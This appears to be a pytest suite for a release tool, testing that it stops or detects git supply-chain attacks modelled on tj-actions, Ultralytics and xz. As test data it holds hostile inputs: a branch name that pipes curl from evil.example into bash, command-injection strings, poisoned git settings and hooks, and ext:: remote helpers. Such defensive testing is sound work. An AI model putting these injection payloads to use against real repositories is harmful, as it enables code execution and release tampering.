"""Attacks on the git side of a release, each after what has happened: moved tags, hostile names, clones and settings.

Each is stopped, or seen and named; nothing of it is undone silently.
"""

from __future__ import annotations

import os
import subprocess
import threading
from collections.abc import Callable
from dataclasses import replace
from datetime import timedelta
from pathlib import Path

import pytest

from customhouse.release import registry
from customhouse.release.actions import Problem, Tampered
from customhouse.release.events import Event, Noted, TagMoved
from customhouse.release.git.git import Git
from customhouse.release.git.remotes import remote
from customhouse.release.git.repository import Repository
from customhouse.release.git.watch import Watcher, Watching
from customhouse.terms.errors import Refused
from release_desk import ALL, PYPROJECT, Desk, desk_at, pushed, refs, stranger, watcher
from sealed_project import git

pytestmark = pytest.mark.slow
TAG, MAIN = "refs/tags/v1.1.0", "refs/heads/main"


def moved(events: list[Event]) -> list[TagMoved]:
    return [event for event in events if isinstance(event, TagMoved)]


def move_tag(desk: Desk, remote: Path) -> str:
    """Somebody who may push to the fork lets the tag name a commit of his own."""
    thief = stranger(desk, remote, "thief")
    git(thief, "tag", "-f", "v1.1.0", "HEAD")
    assert pushed(thief, "--force", "origin", "v1.1.0").returncode == 0
    return git(thief, "rev-parse", "HEAD")


def test_tj_actions_mutable_tag(tmp_path: Path) -> None:
    """March 2025: the tags of tj-actions/changed-files were moved to a malicious commit; everything used them."""
    desk = desk_at("push-fork", tmp_path / "desk")
    watching = watcher(desk)
    assert watching.watch_once() == []
    was = refs(desk.fork)[TAG]
    theirs = move_tag(desk, desk.fork)
    [seen] = moved(watching.watch_once())
    assert (seen.remote, seen.ref, seen.was, seen.now) == ("fork", TAG, was, theirs)
    desk.say(seen)
    assert desk.state.status == "stopped"
    assert desk.state.stop is not None
    assert desk.state.stop.code == "tag-moved"
    for name in ("tag-at-commit", "tag-unmoved"):
        assert not registry.check(name).look(desk.run("push-last"), None).ok
    with pytest.raises(Refused):
        desk.begin("push-last")


def test_a_tag_that_was_moved_and_put_back_between_two_looks_is_seen_in_the_log(tmp_path: Path) -> None:
    desk = desk_at("push-fork", tmp_path / "desk")
    watching = watcher(desk)
    assert watching.watch_once() == []
    was = refs(desk.fork)[TAG]
    theirs = move_tag(desk, desk.fork)
    thief = desk.folder / "thief"
    git(thief, "fetch", "-q", str(desk.folder / "clone"), f"+{TAG}:{TAG}")
    assert pushed(thief, "--force", "origin", "v1.1.0").returncode == 0
    assert refs(desk.fork)[TAG] == was
    # One that has watched all the time sees it, one that begins now sees it, and so does the check before each step.
    for events in (watching.watch_once(), watcher(desk).watch_once()):
        assert [(event.now, event.seen_by.split(" ")[0]) for event in moved(events)] == [(theirs, "reflog")]
    look = registry.check("tag-unmoved").look(desk.run("push-last"), None)
    assert not look.ok
    assert theirs in look.saw
    assert registry.check("tag-at-commit").look(desk.run("push-last"), None).ok  # which alone would not have seen it


def test_on_a_server_without_a_log_a_poll_sees_a_tag_that_stays_moved_until_the_next_look(tmp_path: Path) -> None:
    desk = desk_at("commit", tmp_path / "desk")
    desk.state = replace(desk.state, places={**desk.state.places, "fork": {"url": str(desk.fork)}})
    desk.do("push-fork")
    watching = watcher(desk)
    theirs = move_tag(desk, desk.fork)
    [seen] = moved(watching.watch_once())
    assert (seen.now, seen.seen_by) == (theirs, "poll")
    assert watching.watch_once() == []  # it is told once


def test_whoever_cuts_the_log_of_refs_is_seen(tmp_path: Path) -> None:
    desk = desk_at("push-fork", tmp_path / "desk")
    watching = watcher(desk)
    watching.watch_once()
    git(desk.fork, "update-ref", "-d", "refs/customhouse/log")
    assert [event.ref for event in moved(watching.watch_once())] == ["the log of refs"]


def test_a_tag_of_the_same_commit_that_is_another_object_has_moved(tmp_path: Path) -> None:
    desk = desk_at("push-fork", tmp_path / "desk")
    watching = watcher(desk)
    watching.watch_once()
    git(desk.fork, "tag", "-f", "v1.1.0", "main")
    assert moved(watching.watch_once())


def test_a_tag_upstream_before_publication_is_seen(tmp_path: Path) -> None:
    desk = desk_at("push-fork", tmp_path / "desk")
    early = stranger(desk, desk.upstream)
    git(early, "tag", "v1.1.0")
    refused = pushed(early, "origin", "v1.1.0")
    assert refused.returncode != 0
    assert "locked for a release" in refused.stderr
    assert [event for event in watcher(desk).watch_once() if isinstance(event, Noted)]


def test_the_releases_own_pushes_are_no_moves(tmp_path: Path) -> None:
    desk = desk_at("commit", tmp_path / "desk")
    watching = watcher(desk)
    for name in ("push-fork", "push-last"):
        run = desk.begin(name)
        outcome = desk.action(name).do(run)
        assert watching.watch_once() == []
        for event in outcome.events:
            desk.say(event)
        assert watching.watch_once() == []
        desk.do(name, begun=True)


def test_a_push_of_another_machine_of_the_release_is_no_move_though_its_line_comes_later(tmp_path: Path) -> None:
    desk = desk_at("push-fork", tmp_path / "desk")
    late, old, told, stop = [False], desk.state, list[Event](), threading.Event()
    watching = Watcher(
        Watching(lambda: desk.state if late[0] else old, desk.children, desk.secret, tmp_path / "watching")
    )
    desk.do("push-last")
    look = watching.watch_once

    def looked(*, strict: bool = False) -> list[Event]:
        found = look(strict=strict)
        assert moved(found) or late[0]
        if late[0]:
            stop.set()
        late[0] = True
        return found

    watching.watch_once = looked  # type: ignore[method-assign]
    watching.run(stop, told.extend, seconds=0.01, confirm=0.01)
    assert told == []


@pytest.mark.parametrize("branch", [
    "$({curl,-sSfL,evil.example/x}${IFS}|${IFS}bash)", "x;touch${IFS}PWNED'`touch${IFS}PWNED`\"",
])  # fmt: skip
def test_ultralytics_branch_name(branch: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """December 2024: a branch's name ran as a command in the workflow that built Ultralytics. Here it is a name."""
    monkeypatch.chdir(tmp_path)
    desk = Desk(tmp_path / "desk", branch="main")
    for path in (desk.upstream, desk.fork):
        git(path, "branch", "--", branch, "main")
    desk.state = replace(desk.state, params={**desk.state.params, "branch": branch})
    desk.go("freeze", "fork", "bump", "commit", "push-fork", "push-last")
    assert refs(desk.upstream)[f"refs/heads/{branch}"] == refs(desk.fork)[f"refs/heads/{branch}"] != desk.start
    assert not list(tmp_path.rglob("PWNED*"))


@pytest.mark.parametrize("branch", ["--upload-pack=touch PWNED", "-x", "a..b", "refs/heads/../x", "a:b"])
def test_a_branch_name_that_is_an_option_or_a_range_is_refused(branch: str, tmp_path: Path) -> None:
    desk = Desk(tmp_path / "desk")
    run = desk.run("freeze")
    with pytest.raises(Problem) as refused:
        desk.action("freeze").do(replace(run, params={**run.params, "branch": branch}))
    assert refused.value.code == "bad-ref"


def test_a_push_to_the_frozen_branch_by_somebody_else_is_refused_and_seen(tmp_path: Path) -> None:
    desk = desk_at("freeze", tmp_path / "desk")
    watching = watcher(desk)
    theirs = stranger(desk, desk.upstream)
    tries = [
        ("origin", "main"),
        ("--force", "origin", "main"),
        ("origin", ":main"),
        ("-o", "customhouse-key=guess", "origin", "main"),
        ("origin", ":refs/customhouse/lock/heads/main"),
        ("origin", "HEAD:refs/customhouse/lock/heads/main", "--force"),
        ("origin", "HEAD:refs/customhouse/log", "--force"),
    ]
    for arguments in tries:
        refused = pushed(theirs, *arguments)
        assert refused.returncode != 0, arguments
        assert "customhouse:" in refused.stderr
    assert refs(desk.upstream) == {MAIN: desk.start}
    told = [event.text for event in watching.watch_once() if isinstance(event, Noted)]
    assert len(told) == 4
    assert all(MAIN in one and "refused" in one for one in told)
    assert registry.check("branch-locked").look(desk.run("fork"), None).ok


def test_not_even_the_servers_own_git_moves_the_frozen_branch_unseen(tmp_path: Path) -> None:
    desk = desk_at("freeze", tmp_path / "desk")
    blob = git(desk.upstream, "commit-tree", "-m", "x", "-p", "main", "main^{tree}")
    with pytest.raises(subprocess.CalledProcessError):
        git(desk.upstream, "update-ref", MAIN, blob)
    # Whoever owns the server can take the hooks away; then the poll is what sees it.
    for name in ("pre-receive", "reference-transaction"):
        (desk.upstream / "hooks" / name).unlink()
    git(desk.upstream, "update-ref", MAIN, blob)
    assert [event.now for event in moved(watcher(desk).watch_once())] == [blob]
    assert not registry.check("branch-locked").look(desk.run("fork"), None).ok


def test_the_key_of_the_lock_is_in_no_argument_no_file_of_the_server_and_no_journal(tmp_path: Path) -> None:
    desk = desk_at("unfreeze", tmp_path / "desk")
    [keyfile] = (desk.folder / "clone.locks").iterdir()
    key = keyfile.read_text()
    assert keyfile.stat().st_mode & 0o077 == 0
    held = subprocess.run(["grep", "-rl", key, str(desk.upstream), str(desk.fork), str(desk.folder / "clone")],
                          capture_output=True, text=True, check=False).stdout  # fmt: skip
    assert held == ""
    assert key not in repr(desk.events)


def test_xz_one_more_file_in_the_releases_commit(tmp_path: Path) -> None:
    """xz-utils 5.6.0, 2024: what was released held a file that nobody had declared."""
    steps = ALL.replace(
        'commit desk git.commit_and_tag in=["frozen"] out=["commit","tag"] after=["bump"]',
        'generate desk exec in=["frozen"] after=["bump"] run=["sh","-c","mkdir -p m4; echo evil > m4/build-to-host.m4"]\n'
        'commit desk git.commit_and_tag in=["frozen"] out=["commit","tag"] after=["generate"]',
    )
    desk = Desk(tmp_path / "desk", steps)
    desk.go("freeze", "fork", "bump", "generate")
    with pytest.raises(Tampered) as refused:
        desk.do("commit")
    assert refused.value.code == "undeclared-path"
    assert "A m4/build-to-host.m4" in refused.value.saw


def test_a_file_that_somebody_drops_into_the_work_tree_between_two_steps_is_not_released(tmp_path: Path) -> None:
    desk = desk_at("bump", tmp_path / "desk")
    clone = desk.folder / "clone"
    (clone / "evil.pth").write_text("import evil\n")
    (clone / "README.md").write_text("# other\n")
    git(clone, "update-index", "--assume-unchanged", "README.md")
    desk.do("commit")
    assert git(clone, "show", "--name-only", "--format=", "main") == "pyproject.toml"
    assert any("put back" in line for line in desk.said)
    assert not (clone / "evil.pth").exists()


def test_a_fork_with_commits_that_nobody_knows_is_not_overwritten(tmp_path: Path) -> None:
    desk = desk_at("freeze", tmp_path / "desk")
    pushed(stranger(desk, desk.fork), "origin", "main")
    theirs = refs(desk.fork)
    with pytest.raises(Problem) as refused:
        desk.do("fork")
    assert refused.value.code == "unknown-commits"
    assert "1 commits" in refused.value.saw
    assert refs(desk.fork) == theirs


def test_a_tag_in_the_fork_that_this_run_did_not_push_is_not_overwritten(tmp_path: Path) -> None:
    desk = desk_at("commit", tmp_path / "desk")
    git(desk.fork, "tag", "v1.1.0", "main")
    theirs = refs(desk.fork)
    with pytest.raises(Tampered) as refused:
        desk.do("push-fork")
    assert refused.value.code == "foreign-tag"
    assert refs(desk.fork) == theirs


def _write(path: Path, text: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    path.chmod(0o755)


def _config(*pair: str) -> Callable[[Path], None]:
    def poison(clone: Path) -> None:
        git(clone, "config", *pair)

    return poison


@pytest.mark.parametrize("poison", [
    _config("core.fsmonitor", "touch {mark}"),
    _config("core.sshCommand", "touch {mark}"),
    _config("filter.x.clean", "touch {mark}"),
    _config("core.hooksPath", "/nowhere/hooks"),
    _config("include.path", "/nowhere/other"),
    _config("url.ext::sh -c touch% {mark} .insteadOf", "/"),
    _config("gpg.program", "/nowhere/gpg"),
    _config("credential.helper", "!touch {mark}"),
    _config("remote.fork.uploadpack", "touch {mark}"),
    lambda clone: _write(clone / ".git/info/attributes", "* filter=x\n"),
    lambda clone: _write(clone / ".git/objects/info/alternates", "/nowhere/objects\n"),
], ids=["fsmonitor", "sshCommand", "filter", "hooksPath", "include", "insteadOf", "gpg", "credential", "uploadpack", "attributes",
        "alternates"])  # fmt: skip
def test_settings_that_a_program_planted_in_the_clone_stop_the_release_and_run_nothing(
    poison: Callable[[Path], None], tmp_path: Path
) -> None:
    desk = desk_at("bump", tmp_path / "desk")
    poison(desk.folder / "clone")
    with pytest.raises(Tampered) as refused:
        desk.do("commit")
    assert refused.value.code == "hostile-settings"


def test_hooks_and_filters_of_a_hostile_repository_do_not_run(tmp_path: Path) -> None:
    """What the source brings along: attributes that name filters, modules, links; and hooks planted in the clone."""
    mark = tmp_path / "PWNED"
    files = {
        "pyproject.toml": PYPROJECT, ".gitattributes": "* filter=evil diff=evil merge=evil\n",
        ".gitmodules": '[submodule "x"]\n\tpath = x\n\turl = https://evil.example/x\n',
        ".gitconfig": f"[core]\n\tfsmonitor = touch {mark}\n",
    }  # fmt: skip
    desk = Desk(tmp_path / "desk", files=files)
    desk.go("freeze", "fork")
    for hook in ("pre-commit", "post-checkout", "pre-push", "reference-transaction", "post-index-change"):
        _write(desk.folder / "clone/.git/hooks" / hook, f"#!/bin/sh\ntouch {mark}\n")
    desk.go("bump", "commit", "push-fork")
    assert not mark.exists()


def test_settings_of_the_user_and_the_environment_do_not_run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    mark = tmp_path / "PWNED"
    home = tmp_path / "home"
    _write(home / ".gitconfig", f'[core]\n\tfsmonitor = touch {mark}\n[url "ext::touch {mark}"]\n\tinsteadOf = /\n')
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("GIT_SSH_COMMAND", f"touch {mark}")
    monkeypatch.setenv("GIT_EXTERNAL_DIFF", f"touch {mark}")
    monkeypatch.setenv("GIT_DIR", str(tmp_path / "elsewhere"))
    monkeypatch.setenv("GIT_CONFIG_PARAMETERS", f"'core.fsmonitor=touch {mark}'")
    desk_at("freeze", tmp_path / "desk").go("fork", "bump", "commit", "push-fork")
    assert not mark.exists()
    assert not (tmp_path / "elsewhere").exists()


def test_a_remote_helper_is_no_address(tmp_path: Path) -> None:
    mark = tmp_path / "PWNED"
    desk = Desk(tmp_path / "desk", places={"upstream": {"url": f"ext::sh -c 'touch {mark}'", "adapter": "hook"}})
    with pytest.raises(Problem) as refused:
        desk.do("freeze")
    assert refused.value.code == "bad-remote"
    ran = Git(desk.children).run(["ls-remote", "--", f"ext::touch {mark}"])
    assert not ran.ok
    assert not mark.exists()


@pytest.mark.parametrize(("name", "text"), [
    (".git", "gitdir: /nowhere/evil\n"), (".gitmodules", '[submodule "x"]\n\tpath = x\n\turl = x\n\tupdate = !touch x\n'),
    (".gitmodules", '[submodule "../../x"]\n\tpath = x\n\turl = x\n'),
])  # fmt: skip
def test_objects_that_break_gits_rules_are_not_fetched(name: str, text: str, tmp_path: Path) -> None:
    """CVE-2018-11235, CVE-2019-19604 and their kin: what is put down writes settings, or names programs."""
    desk = Desk(tmp_path / "desk")
    (tmp_path / "text").write_text(text)
    blob = git(desk.upstream, "hash-object", "-w", str(tmp_path / "text"))
    tree = subprocess.run(["git", "-C", str(desk.upstream), "mktree"], input=f"100644 blob {blob}\t{name}\n", text=True,
                          capture_output=True, check=True).stdout.strip()  # fmt: skip
    git(desk.upstream, "update-ref", MAIN, git(desk.upstream, "commit-tree", "-m", "x", "-p", "main", tree))
    desk.do("freeze")
    with pytest.raises(Problem, match=r"fsck error|disallowed"):
        desk.do("fork")


def test_a_kill_between_the_push_and_the_journal_pushes_once(tmp_path: Path) -> None:
    desk = desk_at("push-fork", tmp_path / "desk")
    run = desk.begin("push-last")
    desk.action("push-last").do(run)
    log = git(desk.upstream, "rev-list", "--count", "refs/customhouse/log")
    desk.clock.turn(timedelta(hours=2))
    desk.do("push-last", begun=True)
    assert desk.state.steps["push-last"].recovered
    assert git(desk.upstream, "rev-list", "--count", "refs/customhouse/log") == log


def test_the_token_of_a_forge_is_in_no_argument_and_no_address(tmp_path: Path) -> None:
    """The helper gets it by the environment, and only for the host that the place names."""
    place = {"url": "https://forge.example/o/x.git", "adapter": "github"}
    desk = Desk(tmp_path / "desk", places={"fork": place}, secrets={"github-token": "hush-hush"})
    found = remote(desk.run("fork"), "fork")
    assert "hush-hush" not in repr(found.url)
    assert "hush-hush" not in repr(found.git.settings)
    asked = "protocol=https\nhost=forge.example\n\n"
    filled = found.git.run(["credential", "fill"], stdin=asked.encode())
    assert "username=x-access-token\npassword=hush-hush" in filled.out
    other = found.git.run(["credential", "fill"], stdin=asked.replace("forge", "evil").encode())
    assert not other.ok
    assert "hush-hush" not in other.out
    assert "hush-hush" not in " ".join(filled.argv)


def test_a_clone_is_checked_before_each_call(tmp_path: Path) -> None:
    desk = desk_at("fork", tmp_path / "desk")
    clone = Repository(desk.folder / "clone", Git(desk.children))
    assert clone.ref(MAIN)
    git(clone.path, "config", "core.pager", f"touch {tmp_path}/PWNED")
    with pytest.raises(Tampered):
        clone.ref(MAIN)
    assert os.listdir(tmp_path) == ["desk"]  # noqa: PTH208 - names alone
